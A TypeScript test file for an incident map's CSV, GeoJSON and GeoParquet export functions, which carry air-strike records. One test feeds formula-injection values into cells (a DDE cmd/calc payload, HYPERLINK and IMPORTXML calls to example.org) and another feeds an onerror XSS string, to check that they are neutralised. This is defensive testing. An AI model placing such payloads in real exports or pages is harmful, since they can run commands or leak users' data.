import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parquetMetadata, parquetReadObjects } from 'hyparquet';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { BUILTIN_DATASET } from '$lib/data/builtin';
import type { IncidentCollection, IncidentFeature } from '$lib/data/incident';
import { encodeIncidents } from '$lib/data/import/incident-chunk';
import { ChunkedIncidents } from '$lib/data/incident-rows';
import { BOM } from '$lib/data/csv';
import { randomIncidents } from '$lib/data/testing/random-incidents';
import { seededRandom } from '$lib/data/testing/random';
import {
	CSV_COLUMNS,
	EXPORT_ROW_GROUP_ROWS,
	NO_FIGURES,
	ROWS_PER_PART,
	exportedFigures,
	incidentsCsv,
	incidentsCsvParts,
	incidentsGeoJson,
	incidentsGeoJsonParts,
	incidentsGeoParquet,
	writeBlob,
	writeParts,
	type ExportContext,
	type ExportedFigures
} from './incident-export';

const strikes = (
	JSON.parse(
		readFileSync(join(import.meta.dirname, '../../../geodata/incidents/strikes.geojson'), 'utf8')
	) as IncidentCollection
).features;

const context: ExportContext = {
	permalink: 'http://127.0.0.1:4173/#map=9/34.6/40.8&from=2018-11-15&to=2018-11-25',
	exportedAt: '2026-11-24T09:00:00.000Z',
	datasets: [{ ...BUILTIN_DATASET, sha256: 'abc123' }],
	filters: '15 Nov 2018 – 25 Nov 2018',
	total: strikes.length
};

const figures = (incident: IncidentFeature): ExportedFigures =>
	incident.geometry
		? {
				border_distance_km: 12.345,
				border_side: 'SYR',
				nearest_place: 'Hajin',
				nearest_place_km: 0
			}
		: NO_FIGURES;

const parseCsv = (text: string) => {
	expect(text.startsWith(BOM)).toBe(true);
	return Papa.parse<Record<string, string>>(text.slice(1), {
		header: true,
		comments: '#',
		skipEmptyLines: true
	});
};

describe('CSV export', () => {
	it('has one row per incident, every column, and the citation and permalink first', () => {
		const text = incidentsCsv(strikes.slice(0, 3), figures, context);
		const lines = text.slice(1).split('\r\n');
		expect(lines[0]).toMatch(/^# citation: Iraqi air strikes .*3 of 14 incidents/);
		expect(lines[1]).toBe(`# permalink: ${context.permalink}`);
		const parsed = parseCsv(text);
		expect(parsed.errors).toEqual([]);
		expect(parsed.meta.fields).toEqual([...CSV_COLUMNS]);
		expect(parsed.data.map((row) => row.id)).toEqual(strikes.slice(0, 3).map((s) => s.id));
		expect(parsed.data[0]?.sources?.split(' ')).toEqual(strikes[0]?.properties.sources);
	});

	it('keeps unknowns empty: an unreported toll and an unlocated incident are not 0', () => {
		const unlocated = strikes.find((s) => s.geometry === null)!;
		const row = parseCsv(incidentsCsv([unlocated], figures, context)).data[0]!;
		expect(row.longitude).toBe('');
		expect(row.border_distance_km).toBe('');
		const unreported = strikes.find((s) => s.properties.killed_min === null)!;
		expect(parseCsv(incidentsCsv([unreported], figures, context)).data[0]?.killed_min).toBe('');
	});

	it('round-trips commas, quotes, line breaks, markup and Arabic', () => {
		const base = strikes[0]!;
		const tricky: IncidentFeature = {
			...base,
			properties: {
				...base.properties,
				place_ar: 'هجين، دير الزور',
				summary: 'He said "strike, then\r\nanother";\n<img src=x onerror=alert(1)>',
				target: ' leading space'
			}
		};
		const row = parseCsv(incidentsCsv([tricky], figures, context)).data[0]!;
		expect(row.place_ar).toBe(tricky.properties.place_ar);
		expect(row.summary).toBe(tricky.properties.summary);
		expect(row.target).toBe(' leading space');
	});

	it('neutralises cells a spreadsheet would run; numbers, negative ones too, stay numbers', () => {
		const base = strikes[0]!;
		const hostile: IncidentFeature = {
			...base,
			geometry: { type: 'Point', coordinates: [-3.2, -5] },
			properties: {
				...base.properties,
				place: '=HYPERLINK("http://example.org/?"&A1,"Hajin")',
				actor: "+cmd|' /C calc'!A0",
				target: '@SUM(1+1)*cmd|x',
				claimed_by: '-2+3',
				summary: '\t=1+1',
				sources: ['=IMPORTXML("http://example.org","//a")']
			}
		};
		const row = parseCsv(incidentsCsv([hostile], figures, context)).data[0]!;
		expect(row.place).toBe(`'=HYPERLINK("http://example.org/?"&A1,"Hajin")`);
		expect(row.actor).toBe("'+cmd|' /C calc'!A0");
		expect(row.target).toBe("'@SUM(1+1)*cmd|x");
		expect(row.claimed_by).toBe("'-2+3");
		expect(row.summary).toBe("'\t=1+1");
		expect(row.sources).toBe(`'=IMPORTXML("http://example.org","//a")`);
		expect([row.longitude, row.latitude]).toEqual(['-3.2', '-5']);
	});
});

describe('GeoJSON export', () => {
	it('is a FeatureCollection of the incidents with their figures and a metadata member', () => {
		const chosen = strikes.slice(0, 2);
		const json = JSON.parse(incidentsGeoJson(chosen, figures, context));
		expect(json.type).toBe('FeatureCollection');
		expect(json.features).toHaveLength(2);
		expect(json.features[0].properties).toMatchObject({
			...chosen[0]!.properties,
			border_distance_km: 12.345,
			nearest_place: 'Hajin'
		});
		expect(json.features[0].geometry).toEqual(chosen[0]!.geometry);
		expect(json.metadata).toMatchObject({
			permalink: context.permalink,
			exported_at: context.exportedAt,
			count: 2,
			total: 14,
			datasets: [{ id: BUILTIN_DATASET.id, sha256: 'abc123' }]
		});
		expect(json.metadata.citation).toContain(context.permalink);
	});
});

describe('exported figures', () => {
	it('turns metres into kilometres to the metre and names the place', () => {
		expect(
			exportedFigures(
				{ borderDistance: 12345.6789, side: 'SYR', nearestPlace: { id: 'p1', distance: 999.5 } },
				(id) => (id === 'p1' ? 'Hajin' : undefined)
			)
		).toEqual({
			border_distance_km: 12.346,
			border_side: 'SYR',
			nearest_place: 'Hajin',
			nearest_place_km: 1
		});
		expect(exportedFigures(undefined, () => 'x')).toEqual(NO_FIGURES);
	});
});

describe('GeoParquet export', () => {
	const unlocated: IncidentFeature = {
		...strikes[0]!,
		id: 'unlocated',
		geometry: null,
		properties: { ...strikes[0]!.properties, id: 'unlocated', killed_min: null, killed_max: null }
	};
	const incidents = [...strikes.slice(0, 3), unlocated];

	it('has the CSV export’s columns and values, a WKB point and GeoParquet metadata', async () => {
		const bytes = await incidentsGeoParquet(incidents, figures, context);
		const file = bytes.buffer.slice(
			bytes.byteOffset,
			bytes.byteOffset + bytes.byteLength
		) as ArrayBuffer;
		const metadata = parquetMetadata(file);
		const kv = Object.fromEntries((metadata.key_value_metadata ?? []).map((e) => [e.key, e.value]));
		const geo = JSON.parse(kv.geo ?? '{}');
		expect(geo).toMatchObject({
			version: '1.1.0',
			primary_column: 'geometry',
			columns: { geometry: { encoding: 'WKB', geometry_types: ['Point'] } }
		});
		expect(kv.citation).toMatch(/4 of 14 incidents/);
		expect(kv.permalink).toBe(context.permalink);
		const rows = await parquetReadObjects({ file, utf8: true });
		expect(Object.keys(rows[0] ?? {})).toEqual([...CSV_COLUMNS, 'geometry']);
		const csv = parseCsv(incidentsCsv(incidents, figures, context)).data;
		rows.forEach((row, i) => {
			for (const column of CSV_COLUMNS) {
				const value = row[column];
				const text = value === null ? '' : String(value);
				expect([column, text]).toEqual([column, csv[i]?.[column] ?? '']);
			}
		});
		// The position as a WKB point; none for the unlocated incident, and its counts null.
		const [lon, lat] = strikes[0]!.geometry!.coordinates;
		expect(rows[0]?.geometry).toEqual({ type: 'Point', coordinates: [lon, lat] });
		expect(rows[3]?.geometry).toBeNull();
		expect(rows[3]?.killed_min).toBeNull();
		const counted = incidents.findIndex((incident) => incident.properties.killed_max !== null);
		expect(rows[counted]?.killed_max).toBe(BigInt(incidents[counted]!.properties.killed_max!));
	});
});

describe('an export written a part at a time', () => {
	it('is the same file, in parts of a few rows, from rows kept as columns too', () => {
		const chunked = new ChunkedIncidents([
			encodeIncidents(strikes.slice(0, 5)),
			encodeIncidents(strikes.slice(5))
		]);
		const csv = [...incidentsCsvParts(chunked, figures, context, 4)];
		const geojson = [...incidentsGeoJsonParts(chunked, figures, context, 4)];
		expect(csv.length).toBeGreaterThanOrEqual(4);
		expect(geojson.length).toBeGreaterThanOrEqual(4);
		expect(csv.join('')).toBe(incidentsCsv(strikes, figures, context));
		expect(geojson.join('')).toBe(incidentsGeoJson(chunked, figures, context));
		// Decoded rows write their properties in the layout's order: the same values.
		expect(JSON.parse(geojson.join(''))).toEqual(
			JSON.parse(incidentsGeoJson(strikes, figures, context))
		);
		// Each part after the first holds at most four rows.
		for (const part of csv.slice(1)) expect(part.split('\r\n').length - 1).toBeLessThanOrEqual(4);
		// The text JSON.stringify writes for the whole collection, feature by feature.
		const whole = JSON.parse(geojson.join(''));
		expect(JSON.stringify(whole)).toBe(geojson.join(''));
		expect(whole.features).toHaveLength(strikes.length);
	});

	it('is an empty collection with its metadata when nothing matches', () => {
		const parsed = JSON.parse(incidentsGeoJson([], figures, context));
		expect(parsed).toMatchObject({ type: 'FeatureCollection', features: [] });
		expect(parsed.metadata.count).toBe(0);
	});

	it('lets other work run between two parts', async () => {
		const order: string[] = [];
		const parts = (function* () {
			for (const part of ['a', 'b', 'c']) {
				order.push(part);
				yield part;
			}
		})();
		const written = await writeParts(
			parts,
			async () => void order.push('pause'),
			(n) => order.push(`${n}`)
		);
		expect(written).toEqual(['a', 'b', 'c']);
		expect(order).toEqual(['a', '1', 'pause', 'b', '2', 'pause', 'c', '3', 'pause']);
	});

	it('is a Blob of the parts, the same text', async () => {
		const parts = [...incidentsCsvParts(strikes, figures, context, 4)];
		const blob = await writeBlob(parts, 'text/csv', async () => {});
		expect(blob.type).toBe('text/csv');
		// Decoded with the BOM kept (Blob.text() drops it).
		const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await blob.arrayBuffer());
		expect(text).toBe(parts.join(''));
	});

	it('reads GeoParquet rows between pauses, and writes the file the same', async () => {
		let pauses = 0;
		const bytes = await incidentsGeoParquet(strikes, figures, context, async () => void pauses++);
		const same = await incidentsGeoParquet(strikes, figures, context);
		expect(bytes).toEqual(same);
		expect(pauses).toBe(1); // 14 rows: one part
	});

	it('writes a large GeoParquet export a row group at a time, every row kept in order', async () => {
		const many = randomIncidents(seededRandom(3), 2 * EXPORT_ROW_GROUP_ROWS + 1_500);
		let pauses = 0;
		const read: number[] = [];
		const bytes = await incidentsGeoParquet(
			many,
			figures,
			context,
			async () => void pauses++,
			(parts) => read.push(parts)
		);
		const parts = Math.ceil(many.length / ROWS_PER_PART);
		expect(pauses).toBe(parts);
		expect(read).toEqual([...Array(parts).keys()].map((k) => k + 1));
		const file = bytes.buffer.slice(
			bytes.byteOffset,
			bytes.byteOffset + bytes.byteLength
		) as ArrayBuffer;
		const metadata = parquetMetadata(file);
		expect(metadata.row_groups.map((group) => Number(group.num_rows))).toEqual([
			EXPORT_ROW_GROUP_ROWS,
			EXPORT_ROW_GROUP_ROWS,
			1_500
		]);
		const rows = await parquetReadObjects({ file, utf8: true, columns: ['id'] });
		expect(rows.map((row) => row.id)).toEqual(many.map((incident) => incident.id));
	});
});
